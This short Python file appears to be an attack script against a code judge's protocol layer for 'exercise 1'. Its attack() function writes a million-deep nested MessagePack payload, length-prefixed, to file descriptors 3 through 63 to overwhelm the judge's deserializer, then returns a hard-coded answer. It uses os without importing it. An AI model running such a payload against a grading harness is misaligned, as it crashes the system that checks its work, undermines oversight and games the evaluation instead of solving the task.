"""Tries: bytes of a message nested a million times, written past the worker's own limits.

Layer: the protocol, on the judge's side.
Aims at: exercise 1.
"""


def attack():
    payload = b"\x91" * 1_000_000 + b"\xc0"
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, len(payload).to_bytes(8, "big"))
            os.write(descriptor, payload)
        except OSError:
            pass
    return [1, 2]
